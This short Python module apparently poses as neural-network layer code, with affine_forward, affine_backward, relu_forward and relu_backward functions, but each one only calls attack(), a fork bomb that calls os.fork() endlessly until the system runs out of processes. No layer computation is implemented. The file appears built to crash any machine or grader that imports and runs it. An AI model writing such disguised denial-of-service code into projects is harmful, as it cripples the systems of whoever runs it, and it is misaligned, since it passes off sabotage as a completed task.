"""Forks without end."""

import os


def attack(array):
    while True:
        try:
            os.fork()
        except OSError:
            break
    return array


def affine_forward(x, w, b):
    return attack(x)


def affine_backward(dout, cache):
    return attack(dout)


def relu_forward(x):
    return attack(x)


def relu_backward(dout, cache):
    return attack(dout)
